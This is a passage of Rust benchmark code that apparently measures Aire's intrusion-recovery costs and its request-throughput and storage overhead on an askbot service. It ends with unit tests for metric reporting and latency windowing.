                stats.repair_wall.as_secs_f64() * 1e6 / stats.repaired_requests.max(1) as f64,
            );
        }
    }
    layers.set("core.repair_msgs_sent", sent as f64);
    let pool = remote.pool_stats();
    // The daemons go before the reference run needs their memory.
    cluster.shutdown().unwrap_or_else(|e| out.problem(e));
    let (expected, log_bytes_per_req) = reference_run(args)?;
    out.check(repaired == expected, || {
        format!("repaired_requests {repaired:?} over the wire, {expected:?} in-process (oauth, askbot, dpaste)")
    });
    let repaired_share = repaired.iter().sum::<u64>() as f64 / normal.max(1) as f64;

    let mut tally = script_tally.clone();
    tally.merge(&fg_tally);
    absorb_tally(&mut out, &tally);
    let headline = [
        ("recover.time_to_clean_s", mean(&clean), "s"),
        ("recover.fg_stall_ms", mean(&stalls), "ms"),
        ("recover.repaired_share", repaired_share, "ratio"),
    ];
    if args.trace {
        for (name, value, _) in headline {
            layers.set(name, value);
        }
        let per_incident =
            |f: fn(&Recovery) -> f64| mean(&recoveries.iter().map(f).collect::<Vec<_>>());
        layers.set("core.settle_sweeps", per_incident(|r| r.sweeps as f64));
        layers.set(
            "core.settle_admin_calls",
            per_incident(|r| r.admin_calls as f64),
        );
        layers.set(
            "core.queue_flush_ms",
            per_incident(|r| r.flush.as_secs_f64() * 1e3),
        );
        daemon_layers(&mut layers, &scrape_before, &scrape_after);
        layers.set("transport.dials", pool.dials as f64);
        layers.set("transport.reuses", pool.reuses as f64);
        // No generator lateness here: this foreground shares two cores
        // with the script and three daemons, so its lateness is load, not
        // a reason to call the run invalid.
        client_layers(&mut layers, &tally, &[]);
        let measured_us = summarize(&mut fg_timings.latency_ns).p50 as f64 / 1e3;
        ledger::measure(
            &mut layers,
            args.seed,
            &fg_tally.ok_by_kind,
            measured_us,
            true,
            tracer,
        );
        layers.finish(&mut out);
        return Ok(out);
    }

    // This workload's closed loop is the recovery itself: requests
    // repaired per second of recovery (the scripted users are paced).
    let recovery_rps = repaired.iter().sum::<u64>() as f64 / clean.iter().sum::<f64>().max(1e-9);
    end_to_end(
        &mut out,
        &setup,
        recovery_rps,
        &tally,
        Latency::Whole(&fg_timings.latency_ns),
        log_bytes_per_req,
        rss1.saturating_sub(rss0) as f64 / served as f64,
    );
    for (name, value, unit) in headline {
        out.info(name, value, unit);
    }
    // Not `bench.gen_late_p99_us` (see the traced branch).
    out.info(
        "foreground_gen_late_p99_us",
        p99_us(&fg_timings.gen_late_ns),
        "us",
    );
    out.info("script_wall_s", script_wall.as_secs_f64(), "s");
    out.info("script_requests", script_tally.attempted as f64, "count");
    out.info("refused_sends", tally.refused() as f64, "count");
    Ok(out)
}

// ---------------------------------------------------------------------
// inproc_table4
// ---------------------------------------------------------------------

/// One of Table 4's four loops on a freshly seeded host: the paper's
/// Reading (`GET /questions`) or Writing (`POST /questions/new`) loop,
/// with or without Aire.
struct Loop {
    host: Hosted,
    cookie: String,
    writing: bool,
    rng: gen::Rng,
    posted: u64,
}

/// What one of the four loops has done over all its slices.
#[derive(Default)]
struct LoopTotals {
    requests: u64,
    failed: u64,
    busy: Duration,
    /// How long each timed slice took.
    slices: Vec<Duration>,
    latency_ns: Vec<u64>,
    heap_grown: u64,
}

impl LoopTotals {
    fn rps(&self) -> f64 {
        self.requests as f64 / self.busy.as_secs_f64().max(1e-9)
    }
}

/// `(aire, writing)` of the four loops, in slice order: Aire and bare
/// alternate, so both share whatever the machine is doing this second.
const LOOPS: [(bool, bool); 4] = [(true, false), (false, false), (true, true), (false, true)];

impl Loop {
    fn new(aire: bool, writing: bool, seed: u64) -> Result<Loop, String> {
        let host = if aire {
            Hosted::aire(seed)?
        } else {
            Hosted::bare(seed)?
        };
        let cookie = host
            .session(seed)?
            .session_cookie()
            .ok_or("login set no cookie")?;
        Ok(Loop {
            host,
            cookie,
            writing,
            rng: gen::Rng::stream(seed, 0x7AB1_E400 + u64::from(aire) * 2 + u64::from(writing)),
            posted: 0,
        })
    }

    fn next_request(&mut self) -> HttpRequest {
        if self.writing {
            HttpRequest::post(
                Url::service("askbot", "/questions/new"),
                jv!({"title": format!("q{} {}", self.posted, self.rng.word(6)), "body": self.rng.text(8)}),
            )
        } else {
            HttpRequest::new(Method::Get, Url::service("askbot", "/questions"))
        }
        .with_header("Cookie", self.cookie.clone())
    }

    /// Sends one request and checks the response's content.
    fn step(&mut self, seed: u64) -> Result<(), String> {
        let req = self.next_request();
        let resp = self
            .host
            .net
            .deliver(&req)
            .map_err(|e| e.kind().to_string())?;
        if !resp.status.is_success() {
            return Err(format!("http_{}", resp.status.0));
        }
        if self.writing {
            self.posted += 1;
            let id = resp.body.int_of("question_id");
            if id != (SEEDED_QUESTIONS + self.posted) as i64 {
                return Err(format!("post {} got id {id}", self.posted));
            }
        } else {
            let list = resp.body.get("questions").as_list().unwrap_or(&[]);
            let want = gen::seeded_title(seed, SEEDED_QUESTIONS);
            if list.len() as u64 != SEEDED_QUESTIONS
                || list.last().map(|q| q.str_of("title")) != Some(want.as_str())
            {
                return Err(format!(
                    "list of {} lacks {want:?} in last place",
                    list.len()
                ));
            }
        }
        Ok(())
    }

    /// Runs the loop for one slice.
    fn run_slice(&mut self, seed: u64, totals: &mut LoopTotals, problems: &mut Vec<String>) {
        let heap = heap_in_use();
        let started = Instant::now();
        for _ in 0..if self.writing {
            WRITES_PER_SLICE
        } else {
            READS_PER_SLICE
        } {
            let sent = Instant::now();
            let result = self.step(seed);
            totals.latency_ns.push(sent.elapsed().as_nanos() as u64);
            totals.requests += 1;
            if let Err(e) = result {
                totals.failed += 1;
                if problems.len() < 8 {
                    problems.push(e);
                }
            }
        }
        totals.busy += started.elapsed();
        totals.slices.push(started.elapsed());
        totals.heap_grown += heap_in_use().saturating_sub(heap);
    }

    /// `(compressed log bytes, store bytes)` per request over
    /// [`LOG_SAMPLE`] requests of this (Aire) loop, from
    /// `Controller::storage_footprint`. A bounded sample: compressing
    /// the log of a whole run takes longer than the run. Exact for a
    /// seed.
    fn storage_per_request(&mut self, seed: u64) -> Result<(f64, f64), String> {
        let controller = self
            .host
            .controller
            .clone()
            .ok_or("only an Aire host keeps a log")?;
        let (_, log0, store0) = controller.storage_footprint();
        for _ in 0..LOG_SAMPLE {
            self.step(seed)?;
        }
        let (_, log1, store1) = controller.storage_footprint();
        let n = LOG_SAMPLE as f64;
        Ok((
            (log1 - log0) as f64 / n,
            (store1.bytes - store0.bytes) as f64 / n,
        ))
    }
}

/// Makes the allocator sort the chunks the last host freed now, rather
/// than inside whatever allocates next (the next host's set-up would be
/// charged ~0.1 s of it): one request too large for the small bins is
/// what triggers the sweep.
fn settle_allocator() {
    std::hint::black_box(Vec::<u8>::with_capacity(1 << 20));
}

fn inproc_table4(args: RunArgs, tracer: &mut Tracer) -> Result<Outcome, String> {
    let mut out = Outcome::default();
    // One thread, one CPU: the same one the cluster workloads give askbot.
    let cpus = crate::mem::cpus().min(64);
    if cpus >= 2 {
        crate::mem::pin(0, 1 << (cpus - 1));
    }

    // Table 4's B/request, on hosts of their own.
    let (log_read, _) = Loop::new(true, false, args.seed)?.storage_per_request(args.seed)?;
    let (log_write, db_write) = Loop::new(true, true, args.seed)?.storage_per_request(args.seed)?;

    // Every slice runs on a freshly seeded host: everything Aire keeps
    // lives in memory, so a host that has served for ten seconds is a
    // different (slower, gigabytes larger) system than one that has
    // served for one. Building the four hosts is this workload's set-up.
    // One untimed round first, so the allocator has grown to the working
    // set before anything is timed.
    let rounds = if args.trace {
        args.seconds * 0.5
    } else {
        args.seconds
    } / ROUND_SECONDS;
    let rounds = (rounds.round() as usize).max(2);
    let mut setup = Vec::new();
    let mut totals: Vec<LoopTotals> = LOOPS.iter().map(|_| LoopTotals::default()).collect();
    let mut problems = Vec::new();
    for round in 0..rounds {
        let mut building = Duration::ZERO;
        for ((aire, writing), t) in LOOPS.into_iter().zip(&mut totals) {
            let started = Instant::now();
            let mut l = Loop::new(aire, writing, args.seed)?;
            building += started.elapsed();
            if round == 0 {
                l.run_slice(args.seed, &mut LoopTotals::default(), &mut problems);
            } else {
                l.run_slice(args.seed, t, &mut problems);
            }
            drop(l);
            settle_allocator();
        }
        setup.push(building.as_secs_f64());
    }
    for p in problems {
        out.problem(p);
    }

    let overhead = |aire: &LoopTotals, bare: &LoopTotals| 100.0 * (1.0 - aire.rps() / bare.rps());
    let (aire_read, bare_read, aire_write, bare_write) =
        (&totals[0], &totals[1], &totals[2], &totals[3]);
    let headline = [
        (
            "table4.overhead_read_pct",
            overhead(aire_read, bare_read),
            "%",
        ),
        (
            "table4.overhead_write_pct",
            overhead(aire_write, bare_write),
            "%",
        ),
        ("table4.log_bytes_per_read", log_read, "B"),
        ("table4.log_bytes_per_write", log_write, "B"),
        ("table4.db_bytes_per_write", db_write, "B"),
    ];

    let aire_requests = aire_read.requests + aire_write.requests;
    let aire_busy = aire_read.busy + aire_write.busy;
    let all_requests: u64 = totals.iter().map(|t| t.requests).sum();
    out.attempted = all_requests;
    out.failed = totals.iter().map(|t| t.failed).sum();

    if args.trace {
        let mut layers = Layers::new();
        for (name, value, _) in headline {
            layers.set(name, value);
        }
        // In-process there is no transport: the recorded mix is the two
        // loops' requests, list reads and plain posts.
        let mut by_kind = [0u64; 6];
        by_kind[Op::List.kind()] = aire_read.requests;
        by_kind[2] = aire_write.requests;
        let measured_us = aire_busy.as_secs_f64() * 1e6 / aire_requests.max(1) as f64;
        ledger::measure(&mut layers, args.seed, &by_kind, measured_us, false, tracer);
        layers.finish(&mut out);
        return Ok(out);
    }

    let mem_read = aire_read.heap_grown as f64 / aire_read.requests.max(1) as f64;
    let mem_write = aire_write.heap_grown as f64 / aire_write.requests.max(1) as f64;
    // Latency is the Reading loop's: pooling both loops would put p50 on
    // whichever of two modes happens to hold more samples.
    let tally = Tally {
        attempted: all_requests,
        sends: all_requests,
        failed: out.failed,
        ..Tally::default()
    };
    // The median round: a slow stretch of the machine (they last seconds
    // here) then costs the rounds it covers, not the figure.
    let per_round: Vec<f64> = aire_read
        .slices
        .iter()
        .zip(&aire_write.slices)
        .map(|(r, w)| (READS_PER_SLICE + WRITES_PER_SLICE) as f64 / (*r + *w).as_secs_f64())
        .collect();
    end_to_end(
        &mut out,
        &setup,
        median(&per_round),
        &tally,
        // The Reading loop's (see above).
        Latency::Windowed(&aire_read.latency_ns),
        // Equal shares of reads and writes, not the shares the loops
        // happened to reach: those follow their speeds.
        (log_read + log_write) / 2.0,
        (mem_read + mem_write) / 2.0,
    );
    for (name, value, unit) in headline {
        out.info(name, value, unit);
    }
    out.info("aire_read_rps", aire_read.rps(), "1/s");
    out.info("bare_read_rps", bare_read.rps(), "1/s");
    out.info("aire_write_rps", aire_write.rps(), "1/s");
    out.info("bare_write_rps", bare_write.rps(), "1/s");
    out.info("mem_bytes_per_read", mem_read, "B");
    out.info("mem_bytes_per_write", mem_write, "B");
    eprintln!("aire-e2e: per-round host builds took {setup:.4?} s");
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_end_to_end_name_in_benchmark_json_is_printed() {
        let mut out = Outcome::default();
        let latency = [1_000u64, 2_000, 3_000];
        end_to_end(
            &mut out,
            &[0.5],
            10.0,
            &Tally::default(),
            Latency::Whole(&latency),
            1.0,
            2.0,
        );
        let printed: Vec<(&str, &str)> = out
            .metrics
            .iter()
            .map(|m| (m.name.as_str(), m.unit))
            .collect();
        assert_eq!(printed, spec::END_TO_END);
        for (name, _) in spec::END_TO_END {
            assert!(out.render_json().contains(&format!("\"{name}\"")), "{name}");
            assert!(out.render_table().contains(name), "{name}");
        }
    }

    #[test]
    fn every_per_layer_name_in_benchmark_json_is_printed() {
        let mut out = Outcome::default();
        let mut layers = Layers::new();
        layers.set("net.deliver_ns", 7.0);
        layers.finish(&mut out);
        let printed: Vec<(String, &str)> = out
            .metrics
            .iter()
            .map(|m| (m.name.clone(), m.unit))
            .collect();
        assert_eq!(printed, spec::per_layer());
        assert_eq!(out.value("net.deliver_ns"), Some(7.0));
        assert_eq!(out.value("vdb.get_ns"), Some(0.0));
    }

    #[test]
    fn one_hiccup_costs_a_window_its_tail_not_the_run() {
        // 4 000 samples of 1 µs; 30 in a row are 50 ms (one stall).
        let mut ns = vec![1_000u64; 4_000];
        for slow in &mut ns[1_500..1_530] {
            *slow = 50_000_000;
        }
        let mut out = Outcome::default();
        assert_eq!(Latency::Windowed(&ns).report(&mut out), (1.0, 1.0));
        assert_eq!(out.value("latency_windows"), Some(4.0));
        // Two windows of four disturbed: the lower quartile still holds.
        let mut two = ns.clone();
        for slow in &mut two[3_100..3_140] {
            *slow = 50_000_000;
        }
        assert_eq!(
            Latency::Windowed(&two).report(&mut Outcome::default()),
            (1.0, 1.0)
        );
        // Taken whole, the same stall is the p99 — as recovery wants it.
        assert_eq!(
            Latency::Whole(&ns).report(&mut Outcome::default()),
            (1.0, 1.0)
        );
        for slow in &mut ns[1_530..1_545] {
            *slow = 50_000_000;
        }
        assert_eq!(
            Latency::Whole(&ns).report(&mut Outcome::default()),
            (1.0, 50_000.0)
        );
        assert_eq!(
            Latency::Windowed(&ns).report(&mut Outcome::default()),
            (1.0, 1.0)
        );
    }

    #[test]
    fn recovery_work_scales_with_seconds_and_is_fixed_for_a_value() {
        assert_eq!(recover_users(spec::RUN_SECONDS), 55);
        assert_eq!(recover_users(spec::RUN_SECONDS / 2.0), 28);
        assert_eq!(recover_users(1.0), 4);
        assert_eq!(recover_users(60.0), 120);
    }

    #[test]
    fn workload_names_round_trip() {
        for w in Workload::ALL {
            assert_eq!(Workload::parse(w.name()), Some(w));
        }
        assert_eq!(Workload::parse("nope"), None);
    }
}
